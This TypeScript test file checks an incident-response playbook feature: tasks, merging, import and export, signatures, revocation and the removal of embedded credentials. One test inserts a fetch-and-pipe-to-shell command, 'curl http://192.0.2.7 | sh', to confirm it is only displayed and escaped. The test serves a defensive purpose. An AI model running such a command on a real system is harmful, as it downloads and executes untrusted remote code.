import assert from 'node:assert/strict'
import { exampleNation } from '../../../test/support/example-nation.ts'
import { forBothHouses, forHouse, person, problemWith } from '../../../test/support/house.ts'
import type { TestHouse } from '../../../test/support/house.ts'
import { visitPage } from '../../../test/support/page-visit.ts'
import { shippedContent } from '../../shipped.ts'
import { incident as one, lead, merge, move, open } from './actions/incident.ts'
import {
  dropPlaybook,
  importPlaybook,
  playbook as shown,
  playbookFile,
  playbooks as all,
} from './actions/playbook.ts'
import { startPlaybook, stopPlaybook } from './actions/run.ts'
import { doTask, dropTask, ownTasks, takeTask } from './actions/task.ts'
import { incidents as slice } from './index.ts'
import { playbookPage } from './pages/playbook.ts'

const slices = [exampleNation().slice, slice]
const ALL = ['incidents:read', 'incidents:note', 'incidents:lead'] as const
const handler = person('1', ALL)
const local = person('2', ALL, '/2/')
const leader = person('4', ALL)
const reader = person('3', ['incidents:read'])

type Written = Record<string, unknown> & { readonly id: string; readonly name: string }
const DEFACEMENT = JSON.parse(shippedContent('playbooks/defacement.json')) as Written
const OWN = 'playbook--00000000-0000-4000-8000-000000000001'
const written = (more: object = {}) => JSON.stringify({ ...DEFACEMENT, id: OWN, ...more })

const opened = async (h: TestHouse, area = '/1/') =>
  (await h.call(handler, open, { title: 'Site changed', area, severity: 'severe' })).incident
const openTasks = async (h: TestHouse, incident: string) =>
  (await h.call(reader, one, { incident })).tasks.filter(({ doneAt }) => doneAt === null)
const names = async (h: TestHouse, incident: string) =>
  (await openTasks(h, incident)).map(({ title }) => title).toSorted()

/** Answers the open task of this name. */
async function say(h: TestHouse, incident: string, title: string, said?: string): Promise<void> {
  const task = (await openTasks(h, incident)).find((row) => row.title === title)?.id ?? ''
  await h.call(handler, doTask, { incident, task, ...(said === undefined ? {} : { said }) })
}

forBothHouses(
  'a playbook is gone through on an incident: each step is a task, and people choose the way',
  { slices },
  async (h) => {
    const incident = await opened(h)
    const playbook = DEFACEMENT.id
    const { run } = await h.call(handler, startPlaybook, { incident, playbook })
    await assert.rejects(
      h.call(handler, startPlaybook, { incident, playbook }),
      problemWith('incidents.playbook_runs'),
    )
    const [first] = await openTasks(h, incident)
    assert.equal(first?.title, 'Keep what is shown')
    assert.deepEqual(
      [first?.run, first?.dueAt, first?.words?.['ar']?.name, first?.words?.['en']?.who],
      [run, '2026-11-24T08:30:00.000Z', 'احفظ المعروض', 'Custodian of evidence'],
    )
    const task = first?.id ?? ''
    await assert.rejects(
      h.call(handler, dropTask, { incident, task }),
      problemWith('incidents.of_playbook'),
    )
    await h.call(handler, takeTask, { incident, task })
    await assert.rejects(
      h.call(person('4', ALL), takeTask, { incident, task }),
      problemWith('incidents.task_taken'),
    )
    await say(h, incident, 'Keep what is shown')
    assert.deepEqual(await names(h, incident), [
      'Have the page taken off',
      'Tell stations where the right information is',
    ])
    await say(h, incident, 'Have the page taken off')
    await say(h, incident, 'Tell stations where the right information is')
    const fork = 'Does it mislead voters?'
    await assert.rejects(say(h, incident, fork), problemWith('incidents.answer_needed'))
    await assert.rejects(say(h, incident, fork, 'maybe'), problemWith('incidents.answer_needed'))
    await say(h, incident, fork, 'on_false')
    await say(h, incident, 'Close the way in')
    const back = 'Bring the site back from a copy that is known to be good'
    await say(h, incident, back, 'on_failure')
    assert.deepEqual(await names(h, incident), ['Close the way in'])
    await say(h, incident, 'Close the way in')
    await say(h, incident, back, 'on_success')
    await say(h, incident, 'Watch it for a day')
    await say(h, incident, 'Write down what is learnt')
    const { runs, tasks } = await h.call(reader, one, { incident })
    assert.deepEqual(
      runs.map(({ id, isThrough }) => [id, isThrough]),
      [[run, true]],
    )
    assert.equal(tasks.length, 10)
    const types = (await h.records()).map(({ type }) => type)
    assert.deepEqual(
      ['playbook.started', 'playbook.ended', 'task.done'].map(
        (type) => types.filter((two) => two === type).length,
      ),
      [1, 1, 10],
    )
  },
)

forHouse(
  'a playbook is stopped, and goes along when its incident becomes a part of another one',
  { slices },
  async (h) => {
    const [a, b] = [await opened(h), await opened(h)]
    const playbook = DEFACEMENT.id
    const { run } = await h.call(handler, startPlaybook, { incident: b, playbook })
    await h.call(handler, merge, { incident: b, into: a })
    await say(h, a, 'Keep what is shown')
    await assert.rejects(
      h.call(local, stopPlaybook, { incident: a, run }),
      problemWith('core.wrong_area'),
    )
    await h.call(handler, stopPlaybook, { incident: a, run })
    assert.deepEqual(await names(h, a), [])
    const { runs } = await h.call(reader, one, { incident: a })
    assert.deepEqual(
      runs.map(({ isThrough }) => isThrough),
      [false],
    )
    await assert.rejects(
      h.call(handler, stopPlaybook, { incident: a, run }),
      problemWith('incidents.run_over'),
    )
    const move1 = { incident: a, from: 'open', to: 'false-alarm', reason: 'Ours' } as const
    await h.call(handler, move, move1)
    await assert.rejects(
      h.call(handler, startPlaybook, { incident: a, playbook }),
      problemWith('incidents.over'),
    )
  },
)

forHouse(
  'a playbook is brought in once, in a newer version again, and comes out as it went in',
  { slices },
  async (h) => {
    const bring = (text: string) => h.call(handler, importPlaybook, { text })
    assert.equal((await h.call(reader, all, {})).items.length, 4)
    await assert.rejects(
      h.call(local, importPlaybook, { text: written() }),
      problemWith('core.wrong_area'),
    )
    await assert.rejects(
      bring(JSON.stringify(DEFACEMENT)),
      problemWith('incidents.shipped_playbook'),
    )
    await assert.rejects(bring('{"type":"playbook"}'), problemWith('incidents.not_a_playbook'))
    assert.deepEqual(await bring(written()), { playbook: OWN, leftOut: [] })
    await bring(written())
    await assert.rejects(bring(written({ name: 'Other' })), problemWith('incidents.older_playbook'))
    await bring(written({ name: 'Newer', modified: '2026-11-27T12:00:00.000Z' }))
    const { items } = await h.call(reader, all, {})
    assert.deepEqual(items.at(-1)?.names['en'], 'Newer')
    const file = await h.call(reader, playbookFile, { playbook: OWN })
    assert.deepEqual(
      file,
      JSON.parse(written({ name: 'Newer', modified: '2026-11-27T12:00:00.000Z' })),
    )
    const { list } = await h.call(reader, shown, { playbook: OWN })
    assert.equal(list[0]?.type, 'start')
    assert.ok(list.every(({ leads }) => leads.every(({ to }) => to >= 0)))
    await h.call(handler, dropPlaybook, { playbook: OWN })
    await assert.rejects(
      h.call(handler, dropPlaybook, { playbook: OWN }),
      problemWith('incidents.unknown_playbook'),
    )
    const bodies = JSON.stringify((await h.records()).map(({ body }) => body))
    assert.ok(!bodies.includes('Newer'), 'no record has a name of people')
  },
)

forBothHouses(
  'the next step of a running playbook waits for whoever leads the incident, until somebody takes it',
  { slices },
  async (h) => {
    const waiting = async (by: typeof handler) =>
      (await h.call(by, ownTasks, {})).items.map(({ title, isStep }) => [title, isStep])
    const incident = await opened(h)
    await h.call(handler, startPlaybook, { incident, playbook: DEFACEMENT.id })
    const first = (await openTasks(h, incident)).toSorted((a, b) => (a.title < b.title ? -1 : 1))
    assert.deepEqual(
      (await waiting(handler)).toSorted(),
      first.map(({ title }) => [title, false]),
      'nobody leads: it is for whoever began it',
    )
    const other = await opened(h)
    await h.call(leader, lead, { incident: other })
    await h.call(handler, startPlaybook, { incident: other, playbook: DEFACEMENT.id })
    const [step, ...more] = await openTasks(h, other)
    assert.deepEqual(
      (await waiting(leader)).toSorted(),
      [step, ...more].map((row) => [row?.title, true]).toSorted(),
    )
    await h.call(handler, takeTask, { incident: other, task: step?.id ?? '' })
    assert.equal((await waiting(leader)).length, more.length)
  },
)

forHouse(
  'what a playbook is signed by is told, and that nobody checked it',
  { slices },
  async (h) => {
    const signatures = [{ type: 'jss', signee: 'ACME <b>SOC</b>', value: 'AAAA' }, { type: 'jss' }]
    await h.call(handler, importPlaybook, { text: written({ signatures }) })
    const { signedBy } = await h.call(reader, shown, { playbook: OWN })
    assert.deepEqual(signedBy, ['ACME <b>SOC</b>', ''])
    const file = await h.call(reader, playbookFile, { playbook: OWN })
    assert.deepEqual(file['signatures'], signatures)
    const visit = { actor: reader, params: { playbook: OWN } }
    const page = await visitPage(h, playbookPage, visit)
    assert.match(page, /ACME &lt;b&gt;SOC/)
    assert.match(page, /Signed by someone whose key this node does not know; not checked/)
  },
)

forHouse(
  'each playbook that ships goes out and comes in again as it was',
  { slices },
  async (h) => {
    const { items } = await h.call(reader, all, {})
    assert.equal(items.length, 4)
    for (const [n, { playbook }] of items.entries()) {
      const file = await h.call(reader, playbookFile, { playbook })
      const own = `playbook--00000000-0000-4000-8000-00000000001${n}`
      await h.call(handler, importPlaybook, { text: JSON.stringify({ ...file, id: own }) })
      const again = await h.call(reader, playbookFile, { playbook: own })
      assert.deepEqual({ ...again, id: playbook }, file)
      const [one, other] = [playbook, own].map((id) => h.call(reader, shown, { playbook: id }))
      assert.deepEqual((await one)?.list, (await other)?.list)
    }
  },
)

forHouse(
  'commands for machines are shown, and nothing of a revoked playbook is begun',
  { slices },
  async (h) => {
    const workflow = structuredClone(DEFACEMENT['workflow']) as Record<string, object>
    const action = Object.keys(workflow).find((key) => key.startsWith('action--')) ?? ''
    const commands = [{ type: 'bash', command: 'curl <b>http://192.0.2.7</b> | sh' }]
    workflow[action] = { ...workflow[action], commands }
    await h.call(handler, importPlaybook, { text: written({ workflow }) })
    const { list } = await h.call(reader, shown, { playbook: OWN })
    assert.deepEqual(
      list.flatMap(({ foreign }) => foreign),
      [{ type: 'bash', text: commands[0]?.command }],
    )
    const revoked = { revoked: true, modified: '2026-11-27T12:00:00.000Z' }
    await h.call(handler, importPlaybook, { text: written(revoked) })
    const incident = await opened(h)
    await assert.rejects(
      h.call(handler, startPlaybook, { incident, playbook: OWN }),
      problemWith('incidents.past_playbook'),
    )
  },
)

forHouse(
  'a playbook of others is taken without its credentials, which the page says',
  { slices },
  async (h) => {
    const secrets = { 'user-auth--00000000-0000-4000-8000-000000000009': { password: 'hunter2' } }
    const more = { authentication_info_definitions: secrets, x_maker: 'Others' }
    const { leftOut } = await h.call(handler, importPlaybook, { text: written(more) })
    assert.deepEqual(leftOut, [
      { what: 'credentials', at: 'authentication_info_definitions' },
      { what: 'property', at: 'x_maker' },
    ])
    const visit = { actor: reader, params: { playbook: OWN } }
    assert.match(await visitPage(h, playbookPage, visit), /Names, passwords and keys of accounts/)
    const arabic = await visitPage(h, playbookPage, { ...visit, language: 'ar' })
    assert.match(arabic, /ليس كما ورد/)
    const file = JSON.stringify(await h.call(reader, playbookFile, { playbook: OWN }))
    assert.ok(!file.includes('hunter2') && !file.includes('x_maker'))
  },
)
